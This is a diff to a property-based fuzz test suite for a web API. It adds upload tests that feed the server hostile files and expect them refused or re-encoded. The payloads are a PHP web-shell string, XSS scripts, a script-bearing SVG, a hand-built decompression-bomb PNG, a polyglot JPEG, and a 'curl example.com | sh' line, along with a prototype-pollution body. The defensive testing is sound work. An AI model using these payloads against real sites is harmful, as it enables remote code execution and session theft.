@@ -1,4 +1,10 @@
 import fc from 'fast-check';
+import { randomBytes } from 'node:crypto';
+import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { deflateSync } from 'node:zlib';
+import sharp from 'sharp';
 import type { Response } from 'supertest';
 import type Test from 'supertest/lib/test';
 import { createTestApp, type TestApp } from './create-test-app';
@@ -12,6 +18,7 @@ import {
   fillPath,
   fingerprint,
   type Fixtures,
+  listFiles,
   loadRoutes,
   pathValues,
   type Route,
@@ -245,6 +252,59 @@ const BAD_IDS = [
 /** Path values, already %-encoded: raw bad ids, and any bad string encoded. */
 const badPathValue = fc.oneof({ weight: 2, arbitrary: fc.constantFrom(...BAD_IDS) }, { weight: 1, arbitrary: shortString.filter((s) => s.trim() !== '' && !/^[1-9]\d{0,9}$/.test(s)).map(encode) });
 
+// ---- hostile images ----
+
+/** Random pixels do not compress: width × height × 3 bytes of PNG. */
+const noisePng = (width: number, height: number) =>
+  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } })
+    .png({ compressionLevel: 0 })
+    .toBuffer();
+
+const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
+  let c = n;
+  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
+  return c >>> 0;
+});
+const crc32 = (bytes: Buffer) => {
+  let c = 0xffffffff;
+  for (const byte of bytes) c = CRC_TABLE[(c ^ byte) & 0xff] ^ (c >>> 8);
+  return (c ^ 0xffffffff) >>> 0;
+};
+const pngChunk = (type: string, data: Buffer) => {
+  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
+  const length = Buffer.alloc(4);
+  length.writeUInt32BE(data.length);
+  const crc = Buffer.alloc(4);
+  crc.writeUInt32BE(crc32(body));
+  return Buffer.concat([length, body, crc]);
+};
+/** A few kilobytes of PNG whose header declares width × height RGB pixels (a decompression bomb's shape), written by hand. */
+function pngDeclaring(width: number, height: number): Buffer {
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2, 0, 0, 0], 8);
+  const rows = deflateSync(Buffer.alloc((width * 3 + 1) * 8));
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
+}
+
+// ---- known bugs (each has a test.failing below): inputs that reach them are skipped by the general runs ----
+
+const isNotWellFormed = (v: unknown) => typeof v === 'string' && !v.isWellFormed();
+/** class-validator's IsNumber({maxDecimalPlaces}) reads String(value).split('.')[1].length: 1e-7 has no '.', and it throws. */
+const isExponentFraction = (v: unknown) => typeof v === 'number' && v % 1 !== 0 && !String(v).includes('.');
+
+function knownBug(route: Route, input: JsonInput): string | undefined {
+  if (input.kind !== 'object') return undefined;
+  for (const field of dtoFields(route.bodyDto)) {
+    const value = input.body[field.name];
+    if (field.checks.has('isEmail') && isNotWellFormed(value)) return 'BUG-1 lone surrogate in an e-mail';
+    if (field.checks.has('isNumber') && (field.checks.get('isNumber')![0] as { maxDecimalPlaces?: number })?.maxDecimalPlaces !== undefined && isExponentFraction(value)) return 'BUG-2 fraction in exponent notation';
+    if (route.path === '/api/admin/ra/descriptions/{id}' && value === null) return 'BUG-3 null in a description update';
+  }
+  return undefined;
+}
+
 // ---- the runner ----
 
 describe('fuzz: bad input never breaks the API or changes stored data', () => {
@@ -258,7 +318,11 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
   let fileKinds: fc.Arbitrary<{ bytes: Buffer; filename: string; type?: string }>;
 
   beforeAll(async () => {
-    t = await createTestApp();
+    // A stand-in storefront build, so that storefront page paths are served as in production.
+    const webRoot = mkdtempSync(join(tmpdir(), 'bazaar-fuzz-web-'));
+    mkdirSync(join(webRoot, 'storefront', 'dist'), { recursive: true });
+    writeFileSync(join(webRoot, 'storefront', 'dist', 'index.html'), '<!doctype html><html><head><title>Bazaar</title></head><body><div id="root"></div></body></html>');
+    t = await createTestApp({}, { webRoot });
     routes = await loadRoutes(t);
     f = await createFixtures(t);
     ids = [1, 2, 3, f.adA, f.packageId, f.slotId, 2_147_483_647];
@@ -294,6 +358,8 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
       throw error;
     }
     const after = await fingerprint(t);
+    // Node's HTTP parser refuses more than 16 KB of request line and headers before the app sees them.
+    if (res.status === 431 && before === after) return false;
     const problems: string[] = [];
     if (res.status >= 500) problems.push(`server error ${res.status}`);
     if (res.status >= 300 && res.status < 400) problems.push(`redirect ${res.status}`);
@@ -309,11 +375,18 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
   }
 
   /** Runs one property per route; returns the failures (fast-check's shrunk counterexample and seed). */
-  async function fuzzRoutes<T>(selected: Route[], runs: number, arbitrary: (route: Route) => fc.Arbitrary<T>, request: (route: Route, input: T, token: string | undefined) => { url: string; send: (req: Test) => Test | Promise<Test>; what: () => string }) {
+  async function fuzzRoutes<T>(
+    selected: Route[],
+    runs: number,
+    arbitrary: (route: Route) => fc.Arbitrary<T>,
+    request: (route: Route, input: T, token: string | undefined) => { url: string; send: (req: Test) => Test | Promise<Test>; what: () => string },
+    skip: (route: Route, input: T) => string | undefined = () => undefined,
+  ) {
     const failures: string[] = [];
     for (const route of selected) {
       let accepted = false;
       const property = fc.asyncProperty(arbitrary(route), fc.constantFrom(...tokensFor(route)), async (input, token) => {
+        fc.pre(!skip(route, input));
         const { url, send, what } = request(route, input, token);
         if (await probe(route, send, url, token, what)) accepted = true;
       });
@@ -345,7 +418,7 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
         if (input.kind === 'object' && input.proto) text = text.replace(/^\{/, '{"__proto__":{"role":"ADMIN"},');
         return req.set('Content-Type', 'application/json').send(text);
       },
-    }));
+    }), knownBug);
     expect(failures).toEqual([]);
   });
 
@@ -388,6 +461,144 @@ describe('fuzz: bad input never breaks the API or changes stored data', () => {
       return { url: good.replace('%01', bad), what: () => `${name}=${bad}`, send: (req) => req };
     });
     expect(failures).toEqual([]);
+  });
+
+  describe('image uploads: refused or neutralised, and nothing stored on refusal', () => {
+    const PAYLOAD = '<?php system($_GET["c"]); ?><html><script>alert(document.domain)</script></html>';
+    let files: Record<string, { bytes: Buffer; filename: string; type: string }>;
+    /** The four upload forms, each with text fields that pass validation. */
+    const forms = () => [
+      { name: 'ad (seller)', path: '/api/seller/post/create', field: 'images', token: f.sellerA.token, fields: { title: 'A perfectly normal title', description: 'A perfectly normal description of thirty or more characters.', categoryId: '1', locationId: '1', phone: '9876543210', age: '30' } },
+      { name: 'category', path: '/api/admin/categories/create-category', field: 'image', token: t.adminToken, fields: { title: `Upload test ${Date.now()}${Math.random()}` } },
+      { name: 'location', path: '/api/admin/locations/create', field: 'stateImage', token: t.adminToken, fields: { state: 'Upload State', district: `District ${Date.now()}${Math.random()}` } },
+      { name: 'blog post', path: '/api/admin/blogs', field: 'photo', token: t.adminToken, fields: { title: 'Upload test', description: '<p>Upload test</p>' } },
+    ];
+    const upload = async (form: ReturnType<typeof forms>[number], attachments: { bytes: Buffer; filename: string; type: string }[]) => {
+      let req = t.http.post(form.path).set('Authorization', `Bearer ${form.token}`);
+      for (const [name, value] of Object.entries(form.fields)) req = req.field(name, value);
+      for (const file of attachments) req = req.attach(form.field, file.bytes, { filename: file.filename, contentType: file.type });
+      try {
+        return await req;
+      } catch (error) {
+        // The server may answer 413 and close before a large upload has been sent in full.
+        if (['ECONNRESET', 'EPIPE'].includes((error as { code?: string }).code ?? '')) return { status: 413, body: { detail: '(connection closed early)' }, text: '' } as unknown as Response;
+        throw error;
+      }
+    };
+
+    beforeAll(async () => {
+      const jpeg = await image('jpeg', 64);
+      files = {
+        'a script renamed .jpg': { bytes: Buffer.from(`#!/bin/sh\ncurl example.com | sh\n${PAYLOAD}`), filename: 'photo.jpg', type: 'image/jpeg' },
+        'an image over 5 MB': { bytes: await noisePng(1400, 1400), filename: 'big.png', type: 'image/png' },
+        'a decompression bomb (a small PNG declaring 30000×30000 pixels)': { bytes: pngDeclaring(30_000, 30_000), filename: 'bomb.png', type: 'image/png' },
+        'an SVG with a script, renamed .png': { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'), filename: 'logo.png', type: 'image/png' },
+        'a GIF (not an accepted format)': { bytes: Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0, 0, 0]), Buffer.from(PAYLOAD)]), filename: 'anim.jpg', type: 'image/jpeg' },
+        'JPEG magic bytes followed by HTML': { bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from(PAYLOAD)]), filename: 'fake.jpg', type: 'image/jpeg' },
+        'a polyglot (a valid JPEG with PHP and HTML appended)': { bytes: Buffer.concat([jpeg, Buffer.from(PAYLOAD)]), filename: 'poly.php.jpg', type: 'image/jpeg' },
+      };
+      expect(files['an image over 5 MB'].bytes.length).toBeGreaterThan(5 * 1024 * 1024);
+    });
+
+    it.each([
+      ['a script renamed .jpg', 400],
+      ['an image over 5 MB', 413],
+      ['a decompression bomb (a small PNG declaring 30000×30000 pixels)', 400],
+      ['an SVG with a script, renamed .png', 400],
+      ['a GIF (not an accepted format)', 400],
+      ['JPEG magic bytes followed by HTML', 400],
+    ])('%s is refused by every upload form (%i), and nothing is stored', async (name, status) => {
+      for (const form of forms()) {
+        const before = await fingerprint(t);
+        const res = await upload(form, [files[name]]);
+        expect({ form: form.name, status: res.status, detail: typeof res.body.detail }).toEqual({ form: form.name, status, detail: 'string' });
+        expect(diffFingerprints(before, await fingerprint(t))).toBe('');
+      }
+    });
+
+    it('a polyglot is accepted only re-encoded: the stored and served files no longer carry the payload', async () => {
+      for (const form of forms()) {
+        const res = await upload(form, [files['a polyglot (a valid JPEG with PHP and HTML appended)']]);
+        if (res.status >= 400) {
+          expect(typeof res.body.detail).toBe('string');
+          continue;
+        }
+        expect(res.status).toBe(201);
+        const stored = listFiles(t.config.uploadsDir);
+        expect(stored.length).toBeGreaterThan(0);
+        for (const name of stored) {
+          const bytes = readFileSync(join(t.config.uploadsDir, name));
+          expect(bytes.includes('<?php')).toBe(false);
+          expect(bytes.includes('<script')).toBe(false);
+        }
+        const url = JSON.stringify(res.body).match(/\/uploads\/[\w/-]+\.webp/)?.[0];
+        expect(url).toBeDefined();
+        const served = await t.http.get(url!).expect(200);
+        expect(served.headers['content-type']).toBe('image/webp');
+        expect(served.headers['x-content-type-options']).toBe('nosniff');
+      }
+    });
+
+    it("an ad with one good photo and one bad one is refused whole: the good photo's file is not left behind", async () => {
+      const before = await fingerprint(t);
+      const res = await upload(forms()[0], [{ bytes: await image('jpeg', 48), filename: 'good.jpg', type: 'image/jpeg' }, files['a script renamed .jpg']]);
+      expect(res.status).toBe(400);
+      expect(diffFingerprints(before, await fingerprint(t))).toBe('');
+    });
+  });
+
+  describe('known bugs (test.failing: each asserts the right behaviour; remove .failing, and its skip in knownBug(), once fixed)', () => {
+    const json = (method: 'post' | 'put', path: string, token: string | undefined, body: string) => {
+      let req = t.http[method](path).set('Content-Type', 'application/json');
+      if (token) req = req.set('Authorization', `Bearer ${token}`);
+      return req.send(body);
+    };
+    const expectRefused = async (calls: [string, Promise<Response>][]) => {
+      const answers = [];
+      for (const [name, call] of calls) {
+        const res = await call;
+        answers.push({ name, status: res.status, detail: typeof res.body.detail });
+      }
+      expect(answers).toEqual(calls.map(([name]) => ({ name, status: 400, detail: 'string' })));
+    };
+
+    // BUG-1: validator's isEmail measures length with encodeURI(), which throws URIError on a lone UTF-16 surrogate ("\ud800" is valid JSON): 500.
+    test.failing('BUG-1: an e-mail holding a lone surrogate is a 400, not a 500 (login, sign-up, admin user create)', async () => {
+      const before = await fingerprint(t);
+      await expectRefused([
+        ['POST /api/auth/login', json('post', '/api/auth/login', undefined, '{"email":"\\ud800@example.com","password":"whatever-password"}')],
+        ['POST /api/admins', json('post', '/api/admins', undefined, '{"fullName":"Lone Surrogate","email":"\\ud800@example.com","password":"long-enough-password"}')],
+        ['POST /api/admin/ra/users', json('post', '/api/admin/ra/users', t.adminToken, '{"fullName":"Lone Surrogate","email":"\\ud800","password":"long-enough-password"}')],
+      ]);
+      expect(await fingerprint(t)).toBe(before);
+    });
+
+    // BUG-2: class-validator's IsNumber({maxDecimalPlaces}) does String(value).split('.')[1].length; 1e-7 prints without a '.', so it throws TypeError: 500.
+    test.failing('BUG-2: an amount like 1e-7 is a 400, not a 500 (add-money, package create and update)', async () => {
+      const before = await fingerprint(t);
+      await expectRefused([
+        ['POST /api/seller/transaction/add-money', json('post', '/api/seller/transaction/add-money', f.sellerA.token, '{"amount":1e-7,"upiId":"payer@okaxis","transactionId":"987654321012"}')],
+        ['POST /api/admin/packages', json('post', '/api/admin/packages', t.adminToken, '{"name":"Tiny","amount":1e-7,"durationDays":3}')],
+        [`PUT /api/admin/packages/${f.packageId}`, json('put', `/api/admin/packages/${f.packageId}`, t.adminToken, '{"amount":1e-7}')],
+      ]);
+      expect(await fingerprint(t)).toBe(before);
+    });
+
+    // BUG-3: UpdateSeoDescriptionDto marks its fields @IsOptional(), which lets null through to a NOT NULL column: 500.
+    test.failing('BUG-3: PUT /api/admin/ra/descriptions/{id} with a null field is a 400, not a 500', async () => {
+      const hash = await contentHash(t);
+      await expectRefused(
+        ['headingH1', 'headingH2', 'description'].map((field): [string, Promise<Response>] => [field, json('put', `/api/admin/ra/descriptions/${f.descriptionId}`, t.adminToken, `{"${field}":null}`)]),
+      );
+      expect(await contentHash(t)).toBe(hash);
+    });
+
+    // BUG-4: PageMetaService.compute() calls decodeURIComponent() on each storefront path segment unguarded: URIError, 500.
+    test.failing('BUG-4: a storefront page path with a broken %-escape is a 400 or 404, not a 500', async () => {
+      const answers = [];
+      for (const path of ['/%zz', '/%E0%A4', '/women-seeking-men/%C0%AE', '/ad/%zz/1']) answers.push([path, (await t.http.get(path)).status]);
+      expect(answers.filter(([, status]) => Number(status) >= 500)).toEqual([]);
+    });
   });
 
   it('left nothing in Object.prototype (no prototype pollution from bodies or queries)', () => {
